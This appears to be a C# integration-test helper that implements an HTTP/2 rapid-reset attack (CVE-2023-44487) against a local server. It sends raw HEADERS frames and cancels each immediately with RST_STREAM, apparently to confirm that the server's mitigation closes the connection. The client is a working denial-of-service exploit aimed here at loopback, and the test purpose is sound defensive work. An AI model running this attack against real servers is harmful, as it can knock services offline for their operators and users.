using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Portcullis.IntegrationTests.Infrastructure;

/// <summary>
/// An HTTP/2 rapid-reset attacker (CVE-2023-44487) over cleartext HTTP/2 with prior knowledge: it opens
/// streams (HEADERS with END_STREAM) and cancels each at once (RST_STREAM), as fast as the socket takes
/// them, while draining whatever the server sends. HttpClient cannot do this (it never resets a stream
/// whose headers it has not sent), hence the raw frames; HPACK uses only static-table and literal fields.
/// </summary>
internal static class RapidResetClient
{
    private const byte Headers = 0x1, RstStream = 0x3, Settings = 0x4, GoAway = 0x7;

    /// <summary>Runs the attack until <paramref name="streams"/> streams are sent or the server closes; returns what happened.</summary>
    public static async Task<RapidResetResult> AttackAsync(int port, int streams, string path, TimeSpan timeout)
    {
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(IPAddress.Loopback, port);
        var stream = client.GetStream();
        using var cts = new CancellationTokenSource(timeout);
        var reading = DrainAsync(stream, cts.Token);

        var preface = new MemoryStream();
        preface.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        WriteFrame(preface, Settings, 0, 0, []);
        var sent = 0;
        try
        {
            await stream.WriteAsync(preface.ToArray(), cts.Token);
            var block = HeaderBlock(path, $"127.0.0.1:{port}");
            var batch = new MemoryStream();
            for (var id = 1; sent < streams && !reading.IsCompleted; id += 2)
            {
                WriteFrame(batch, Headers, 0x5 /* END_STREAM | END_HEADERS */, id, block);
                var code = new byte[4];
                BinaryPrimitives.WriteUInt32BigEndian(code, 0x8); // CANCEL
                WriteFrame(batch, RstStream, 0, id, code);
                sent++;
                if (batch.Length > 16 * 1024)
                {
                    await stream.WriteAsync(batch.ToArray(), cts.Token);
                    batch.SetLength(0);
                }
            }

            if (batch.Length > 0) await stream.WriteAsync(batch.ToArray(), cts.Token);
        }
        catch (Exception ex) when (ex is IOException or SocketException or OperationCanceledException)
        {
            // The server cut the connection: the mitigation at work.
        }

        var goAway = await reading.WaitAsync(timeout).ConfigureAwait(false);
        return new RapidResetResult(sent, goAway);
    }

    // Reads until the server closes; returns the GOAWAY error code, if one came.
    private static async Task<uint?> DrainAsync(NetworkStream stream, CancellationToken ct)
    {
        uint? goAway = null;
        var buffer = new byte[64 * 1024];
        var pending = new List<byte>();
        try
        {
            int read;
            while ((read = await stream.ReadAsync(buffer, ct)) > 0)
            {
                pending.AddRange(buffer.AsSpan(0, read).ToArray());
                while (pending.Count >= 9)
                {
                    var length = (pending[0] << 16) | (pending[1] << 8) | pending[2];
                    if (pending.Count < 9 + length) break;
                    if (pending[3] == GoAway && length >= 8) goAway = BinaryPrimitives.ReadUInt32BigEndian(pending.GetRange(13, 4).ToArray());
                    pending.RemoveRange(0, 9 + length);
                }
            }
        }
        catch (Exception ex) when (ex is IOException or SocketException or OperationCanceledException)
        {
        }

        return goAway;
    }

    private static byte[] HeaderBlock(string path, string authority)
    {
        var block = new MemoryStream();
        block.WriteByte(0x82); // :method GET
        block.WriteByte(0x86); // :scheme http
        Literal(block, 4, path); // :path
        Literal(block, 1, authority); // :authority
        return block.ToArray();
    }

    // Literal header field without indexing, indexed name (RFC 7541 §6.2.2); values here are short (< 127 bytes).
    private static void Literal(MemoryStream block, byte nameIndex, string value)
    {
        var bytes = Encoding.ASCII.GetBytes(value);
        block.WriteByte(nameIndex);
        block.WriteByte((byte)bytes.Length);
        block.Write(bytes);
    }

    private static void WriteFrame(MemoryStream output, byte type, byte flags, int streamId, ReadOnlySpan<byte> payload)
    {
        Span<byte> header = stackalloc byte[9];
        header[0] = (byte)(payload.Length >> 16);
        header[1] = (byte)(payload.Length >> 8);
        header[2] = (byte)payload.Length;
        header[3] = type;
        header[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(header[5..], streamId);
        output.Write(header);
        output.Write(payload);
    }
}

/// <summary>Streams sent before the server closed, and the GOAWAY error code it sent (11 = ENHANCE_YOUR_CALM).</summary>
internal sealed record RapidResetResult(int StreamsSent, uint? GoAwayCode);
